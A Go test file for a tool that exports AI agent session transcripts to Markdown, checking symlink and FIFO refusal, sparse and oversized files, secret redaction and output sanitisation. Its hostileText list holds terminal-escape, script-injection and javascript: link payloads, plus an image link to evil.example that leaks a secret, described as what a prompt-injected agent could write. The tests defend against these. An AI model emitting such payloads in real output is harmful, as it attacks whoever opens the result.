package transcript

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/claudebox/claudebox/untrusted"
)

const hostileRecord = `{"type":"user","uuid":"u1","parentUuid":null,"timestamp":"2026-11-20T10:00:00Z","message":{"role":"user","content":"hello"}}` + "\n"

// TestExportReadsNoLink: a transcript that is a symlink (to a key the
// sandbox cannot read, but the host can), or that sits in a directory that
// is one, is neither listed nor exported, and a FIFO does not hang.
func TestExportReadsNoLink(t *testing.T) {
	inst := t.TempDir()
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "id_ed25519")
	os.WriteFile(secret, []byte("SECRET-KEY-MATERIAL\n"), 0o600)
	os.WriteFile(filepath.Join(secretDir, "00000000-0000-0000-0000-000000000002.jsonl"), []byte("SECRET-KEY-MATERIAL\n"), 0o600)
	dir := filepath.Join(inst, "-p")
	os.Mkdir(dir, 0o700)
	os.Symlink(secret, filepath.Join(dir, "00000000-0000-0000-0000-000000000001.jsonl"))
	os.Symlink(secretDir, filepath.Join(inst, "-linked"))
	if err := syscall.Mkfifo(filepath.Join(dir, "00000000-0000-0000-0000-000000000003.jsonl"), 0o600); err != nil {
		t.Fatal(err)
	}
	// A real session whose subagent transcript and metadata are links.
	os.WriteFile(filepath.Join(dir, "00000000-0000-0000-0000-000000000004.jsonl"), []byte(hostileRecord), 0o600)
	subs := filepath.Join(dir, "00000000-0000-0000-0000-000000000004", "subagents")
	os.MkdirAll(subs, 0o700)
	os.Symlink(secret, filepath.Join(subs, "agent-a1.jsonl"))
	os.WriteFile(filepath.Join(subs, "agent-a2.jsonl"), []byte(hostileRecord), 0o600)
	os.Symlink(secret, filepath.Join(subs, "agent-a2.meta.json"))
	var b bytes.Buffer
	if err := Export(&b, inst, "-p/00000000-0000-0000-0000-000000000004.jsonl", Options{Detail: Tools}); err != nil {
		t.Fatal(err)
	}
	if out := b.String(); strings.Contains(out, "SECRET") || strings.Contains(out, "Subagent a1") || !strings.Contains(out, "## Subagent a2") {
		t.Errorf("the export of a session with linked subagent files:\n%s", out)
	}
	ss, err := allSessions(inst)
	if err != nil || len(ss) != 1 {
		t.Fatalf("Sessions = %+v, %v; want the one regular file", ss, err)
	}
	for _, name := range []string{"-p/00000000-0000-0000-0000-000000000001.jsonl", "-linked/00000000-0000-0000-0000-000000000002.jsonl", "-p/00000000-0000-0000-0000-000000000003.jsonl"} {
		var b bytes.Buffer
		err := Export(&b, inst, name, Options{Detail: Tools})
		if err == nil || strings.Contains(b.String(), "SECRET") {
			t.Errorf("Export of %s: %v, wrote %q; want it refused, unread", name, err, b.String())
		}
		if !errors.Is(err, syscall.ELOOP) && !errors.Is(err, syscall.EXDEV) && !errors.Is(err, untrusted.ErrNotRegular) {
			t.Errorf("Export of %s: %v; want a link or a FIFO refused", name, err)
		}
	}
}

// TestExportLongLine: a transcript with a line of 64 MiB, four times
// the longest record read, is exported with the line skipped and noted,
// and the export never holds it: it allocates no more than a few times
// its longest line. (A sparse file, which would make the line cheaply, is
// not read at all: TestSparseTranscriptNotRead.)
func TestExportLongLine(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 64 MiB")
	}
	inst := t.TempDir()
	f, err := os.Create(filepath.Join(inst, "t.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString(hostileRecord)
	if _, err := f.Write(bytes.Repeat([]byte("x"), 4*maxLine)); err != nil {
		t.Fatal(err)
	}
	f.WriteString("\n" + strings.Replace(strings.Replace(hostileRecord, `"u1","parentUuid":null`, `"u2","parentUuid":"u1"`, 1), "hello", "after the long line", 1))
	f.Close()
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	var b bytes.Buffer
	if err := Export(&b, inst, "t.jsonl", Options{Detail: Tools}); err != nil {
		t.Fatal(err)
	}
	runtime.ReadMemStats(&after)
	out := b.String()
	for _, want := range []string{"> hello", "> after the long line", "1 lines of the transcript were left out"} {
		if !strings.Contains(out, want) {
			t.Errorf("the export lacks %q:\n%s", want, out)
		}
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 3*maxLine {
		t.Errorf("the export allocated %d bytes for a 64 MiB line", alloc)
	}
}

// TestSparseTranscriptNotRead: a transcript with a hole, which no agent
// writes (truncate -s 4G: gigabytes that take no disk, which each export
// and --list-sessions read whole), is refused unread.
func TestSparseTranscriptNotRead(t *testing.T) {
	inst := t.TempDir()
	path := filepath.Join(inst, "t.jsonl")
	if err := os.WriteFile(path, []byte(hostileRecord+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(path, 1<<31); err != nil {
		t.Fatal(err)
	}
	if err := Export(io.Discard, inst, "t.jsonl", Options{Detail: Tools}); !errors.Is(err, errSparse) {
		t.Errorf("Export of a sparse transcript: %v, want it refused as sparse", err)
	}
}

// hostileText is what a prompt-injected agent could put in a transcript
// to act on whoever opens the export: terminal escapes, HTML, script
// links, an auto-loading image, a fence that never closes.
var hostileText = []string{
	"\x1b]0;pwned\x07\x1b[2J\x9b31m\u202egnp.exe",
	"<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=//evil>",
	"[x](javascript:alert(3)) [y]( JAVASCRIPT:alert(4)) [z](data:text/html,<b>) <javascript:alert(5)>",
	"![t](https://evil.example/?leak=secret)",
	"[r]: javascript:alert(6)",
	"> [q]: javascript:alert(7)\n- [l]: <javascript:alert(8)>\n[q] [l]",
	"1. item\n   ```\n   code\n<script>after the list</script>",
	"```\nnever closed <b>",
	"~~~~\n<script>x</script>\n~~~",
	"` <b>code</b> ` and ` unclosed <i>",
}

// TestSafeMarkdownNeutralises: every hostile text, wherever the export
// shows it, comes out with no control character and nothing a viewer
// runs or loads (viewerProblems).
func TestSafeMarkdownNeutralises(t *testing.T) {
	for _, s := range hostileText {
		out := safeMarkdown(s)
		for _, r := range out {
			if r != '\n' && r != '\t' && (r < 0x20 || r == 0x7f || r >= 0x80 && r < 0xa0 || r == '\u202e') {
				t.Errorf("safeMarkdown(%q) = %q: holds %U", s, out, r)
			}
		}
		checkInert(t, s)
		if s := summaryText(s); strings.ContainsAny(s, "<>\x1b") {
			t.Errorf("summaryText = %q", s)
		}
	}
	if got := inlineCode("a ``` b"); got != "````a ``` b````" {
		t.Errorf("inlineCode = %q", got)
	}
	if got := inlineCode("a <b> [c](x:y)"); got != `<code>a &lt;b&gt; \[c\](x:y)</code>` {
		t.Errorf("inlineCode = %q, want a <code> element", got)
	}
	if got := codeBlock("x\n````\ny", ""); !strings.HasPrefix(got, "`````\n") {
		t.Errorf("codeBlock = %q, want a fence longer than its content's", got)
	}
}

// markdownTokens are the pieces random transcript text is made of: what
// opens or closes code, HTML, links and images, containers, escapes.
var markdownTokens = []string{
	"`", "``", "```", "````", "~~~", "~", "\\", "\\`", "<", ">", "&", "<img src=x>", "<script>",
	"![", "[", "]", "](", "]:", "(", ")", "javascript:x", "http://a", "!", " ", "  ", "    ", "\t", "\n", "\n\n",
	"- ", "1. ", "> ", "#", "*", "_", "x", "go", "&lt;", "&#96;", "<code>", "</details>",
}

// TestSafeMarkdownRandom: random texts made of Markdown's significant
// pieces, wherever the export shows them, hold nothing a viewer runs or
// loads; and so does a whole export of a transcript carrying them.
func TestSafeMarkdownRandom(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	dir := t.TempDir()
	tries := 20000
	if testing.Short() {
		tries = 2000
	}
	for i := range tries {
		var b strings.Builder
		for range rng.IntN(24) {
			b.WriteString(markdownTokens[rng.IntN(len(markdownTokens))])
		}
		s := b.String()
		if !checkInert(t, s) {
			return
		}
		if i%40 == 0 && !checkExport(t, dir, s) {
			return
		}
	}
}

// FuzzSafeMarkdown: what TestSafeMarkdownRandom checks, for any text
// (go test -fuzz FuzzSafeMarkdown ./transcript).
func FuzzSafeMarkdown(f *testing.F) {
	for _, s := range hostileText {
		f.Add(s)
	}
	f.Add("see \\`<img src=\"http://evil.example/a.png\">`\n\n  ```\nx\n```\n<script>alert(1)</script>\n```")
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, s string) {
		if checkInert(t, s) {
			checkExport(t, dir, s)
		}
	})
}

// checkInert reports whether s, in each place the export shows such text,
// passes viewerProblems.
func checkInert(t *testing.T, s string) bool {
	t.Helper()
	one := strings.Join(strings.Fields(controls(s)), " ")
	for _, md := range []string{
		safeMarkdown(s),
		quote(safeMarkdown(s)),
		"<details><summary>Thinking</summary>\n\n" + safeMarkdown(s) + "\n\n</details>",
		"# " + safeLine(one),
		oneLine(s, s) + " " + inlineCode(s) + descr(s),
		"- [ ] " + safeLine(one) + "\n- [x] " + safeLine(one),
		"**Error** from " + inlineCode(s) + ":\n\n" + codeBlock(s, "text"),
	} {
		if p := viewerProblems(md); p != nil {
			t.Errorf("text %q is shown as\n%s\nwhich a viewer reads with: %s", s, md, strings.Join(p, "; "))
			return false
		}
	}
	return true
}

// checkExport reports whether the export of a transcript carrying s in
// every field it shows passes viewerProblems.
func checkExport(t *testing.T, dir, s string) bool {
	t.Helper()
	text := func(v any) string { b, _ := json.Marshal(v); return string(b) }
	lines := []string{
		`{"type":"user","uuid":"u1","parentUuid":null,"message":{"role":"user","content":` + text(s) + `}}`,
		`{"type":"assistant","uuid":"a1","parentUuid":"u1","message":{"role":"assistant","content":[{"type":"thinking","thinking":` + text(s) + `},{"type":"text","text":` + text(s) + `},` +
			`{"type":"tool_use","id":"t1","name":` + text(s) + `,"input":{"x":` + text(s) + `}},` +
			`{"type":"tool_use","id":"t2","name":"Bash","input":{"command":` + text(s) + `,"description":` + text(s) + `}},` +
			`{"type":"tool_use","id":"t3","name":"Grep","input":{"pattern":` + text(s) + `,"path":` + text(s) + `}},` +
			`{"type":"tool_use","id":"t4","name":"Edit","input":{"file_path":` + text(s) + `,"old_string":` + text(s) + `,"new_string":"y"}},` +
			`{"type":"tool_use","id":"t5","name":"TodoWrite","input":{"todos":[{"content":` + text(s) + `,"status":"in_progress"}]}},` +
			`{"type":"tool_use","id":"t6","name":"Task","input":{"description":` + text(s) + `,"prompt":` + text(s) + `}},` +
			`{"type":"image","source":{"media_type":` + text(s) + `,"data":"AAAA"}}]}}`,
		`{"type":"user","uuid":"u2","parentUuid":"a1","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"t2","content":` + text(s) + `},{"type":"tool_result","tool_use_id":"t1","is_error":true,"content":` + text(s) + `}]}}`,
		`{"type":"user","uuid":"u3","parentUuid":"u2","isCompactSummary":true,"message":{"role":"user","content":` + text(s) + `}}`,
	}
	if err := os.WriteFile(filepath.Join(dir, "t.jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := Export(&b, dir, "t.jsonl", Options{Detail: Full, Thinking: true, NoRedact: true}); err != nil {
		t.Fatal(err)
	}
	if p := viewerProblems(b.String()); p != nil {
		t.Errorf("the export of a transcript carrying %q:\n%s\nwhich a viewer reads with: %s", s, b.String(), strings.Join(p, "; "))
		return false
	}
	return true
}

// ownTags is the HTML the export writes itself: the only HTML a viewer
// may find in it.
var ownTags = []string{"<details>", "</details>", "<summary>", "</summary>", "<code>", "</code>"}

var (
	// quoteMarker is a block quote's marker (CommonMark §5.1).
	quoteMarker = regexp.MustCompile(`^ {0,3}> ?`)
	// ownFence is a fence as claudebox opens one: backticks at the start
	// of the line (in a quote, after its marker).
	ownFence = regexp.MustCompile("^(`{3,})[^`]*$")
	// container is what may stand before a block inside a quote or a list
	// item, at any depth: indentation, a quote's marker, a list marker.
	container = regexp.MustCompile(`^(?:[ \t]+|>|[-+*](?:[ \t]|$)|[0-9]{1,9}[.)](?:[ \t]|$))`)
	// anyFence is a line that opens a fenced block once its containers
	// are taken off (CommonMark §4.5).
	anyFence = regexp.MustCompile("^(?:`{3,}[^`]*|~{3,}.*)$")
	// linkOpen is where an inline link's or a reference definition's
	// target starts.
	linkOpen = regexp.MustCompile(`\]\(|\]:`)
	// allowedTarget is a target the export may link to: the web, or a
	// subagent's section in it.
	allowedTarget = regexp.MustCompile(`(?i)^\s*(https?://|#subagent-)`)
)

// viewerProblems reads md as a CommonMark viewer does as far as what it
// could run or load, and says what it finds. It takes the fenced blocks
// that open as claudebox opens its own (backticks at a line's start, after
// a blank line: in any reading of what comes before, nothing but a fence
// starts there) and ends them by CommonMark's rules (a closing fence at
// least as long, or the end of the block quote they are in). Outside them,
// each of these is a problem: a line that could open another fence, in a
// list item or quote of any depth (a viewer could read it as one, so the
// blocks after it would not be what they seem); a "<" that does not begin
// one of claudebox's own tags (raw HTML or an autolink needs a "<", so
// none can be anywhere else, whatever a viewer takes for a code span); an
// "!["; a link or a reference definition whose target is not http(s).
func viewerProblems(md string) []string {
	var problems []string
	problem := func(n int, what, line string) {
		problems = append(problems, fmt.Sprintf("line %d %s: %q", n+1, what, line))
	}
	fenceLen, fenceDepth := 0, 0 // the open fence, and its block quotes
	blank := true                // the line before was blank
	html := false                // in an HTML block of claudebox's
	for n, line := range strings.Split(md, "\n") {
		if html = html && strings.Trim(line, " \t") != "" || strings.HasPrefix(line, "<details>"); html {
			// An HTML block (CommonMark §4.6, kind 6) runs to a blank
			// line, and holds no Markdown: only its tags count.
			if rawHTML(line) {
				problem(n, "holds raw HTML", line)
			}
			blank = false
			continue
		}
		depth, body := stripQuotes(line, -1)
		if fenceLen > 0 {
			if depth >= fenceDepth {
				_, inner := stripQuotes(line, fenceDepth)
				if closesFence(inner, fenceLen) {
					fenceLen, blank = 0, false
				}
				continue
			}
			fenceLen = 0 // the quote ends, and the fence in it
		}
		if m := ownFence.FindStringSubmatch(body); m != nil {
			if !blank {
				problem(n, "opens a fence after a line that is not blank", line)
			}
			fenceLen, fenceDepth = len(m[1]), depth
			continue
		}
		rest := body
		for loc := container.FindStringIndex(rest); loc != nil; loc = container.FindStringIndex(rest) {
			rest = rest[loc[1]:]
		}
		if anyFence.MatchString(rest) {
			problem(n, "may open a fence", line)
		}
		if rawHTML(line) {
			problem(n, "holds raw HTML", line)
		}
		if strings.Contains(line, "![") {
			problem(n, "holds an image", line)
		}
		for _, loc := range linkOpen.FindAllStringIndex(line, -1) {
			if !escapedAt(line, loc[0]) && !allowedTarget.MatchString(line[loc[1]:]) {
				problem(n, "links to other than http(s)", line)
			}
		}
		blank = strings.Trim(body, " \t") == ""
	}
	if fenceLen > 0 {
		problems = append(problems, "a fence is left open")
	}
	return problems
}

// rawHTML reports whether a "<" in line begins anything but one of
// claudebox's own tags.
func rawHTML(line string) bool {
	for i := 0; i < len(line); i++ {
		if line[i] == '<' && !slices.ContainsFunc(ownTags, func(tag string) bool { return strings.HasPrefix(line[i:], tag) }) {
			return true
		}
	}
	return false
}

// stripQuotes takes up to limit block quote markers (all, if limit < 0) off line.
func stripQuotes(line string, limit int) (int, string) {
	depth := 0
	for ; depth != limit; depth++ {
		loc := quoteMarker.FindStringIndex(line)
		if loc == nil {
			break
		}
		line = line[loc[1]:]
	}
	return depth, line
}

// closesFence reports whether line closes a fence of n backticks.
func closesFence(line string, n int) bool {
	body := strings.TrimLeft(line, " ")
	if len(line)-len(body) > 3 {
		return false
	}
	run := len(body) - len(strings.TrimLeft(body, "`"))
	return run >= n && strings.Trim(body[run:], " \t") == ""
}

// escapedAt reports whether the byte at i is backslash-escaped.
func escapedAt(s string, i int) bool {
	n := 0
	for i-n-1 >= 0 && s[i-n-1] == '\\' {
		n++
	}
	return n%2 == 1
}

// TestRedact: each shape of secret is replaced, and only it.
func TestRedact(t *testing.T) {
	for in, want := range map[string]string{
		"key sk-ant-api03-" + strings.Repeat("x", 30) + " end":                       "key [REDACTED] end",
		"sk-proj-" + strings.Repeat("Y", 40):                                         "[REDACTED]",
		"ghp_" + strings.Repeat("a", 36) + ".":                                       "[REDACTED].",
		"github_pat_" + strings.Repeat("b", 60):                                      "[REDACTED]",
		"aws AKIAIOSFODNN7EXAMPLE":                                                   "aws [REDACTED]",
		"Authorization: Bearer abc.def-ghi_jkl012345":                                "Authorization: Bearer [REDACTED]",
		"a\n-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\nb": "a\n[REDACTED]\nb",
		"cut: -----BEGIN PRIVATE KEY-----\nMIIEv":                                    "cut: [REDACTED]",
		"xoxb-1234567890-abcdef":                                                     "[REDACTED]",
		"plain sk-short and task-list and AKIA":                                      "plain sk-short and task-list and AKIA",
	} {
		if got := redact(in); got != want {
			t.Errorf("redact(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestRelativize: the project's paths from ".", the home's from "~", and
// a sibling whose name only starts like the project's left whole.
func TestRelativize(t *testing.T) {
	for in, want := range map[string]string{
		"/home/a/p/src/x.go":      "./src/x.go",
		"cwd is /home/a/p.":       "cwd is ~/p.",
		"/home/a/p2/x":            "~/p2/x",
		"/home/a/.ssh/id":         "~/.ssh/id",
		"/home/ab/x":              "/home/ab/x",
		"/home/a/p.git/config":    "~/p.git/config",
		"see /home/a and /home/a": "see ~ and ~",
	} {
		if got := relativize(in, "/home/a/p", "/home/a"); got != want {
			t.Errorf("relativize(%q) = %q, want %q", in, got, want)
		}
	}
}
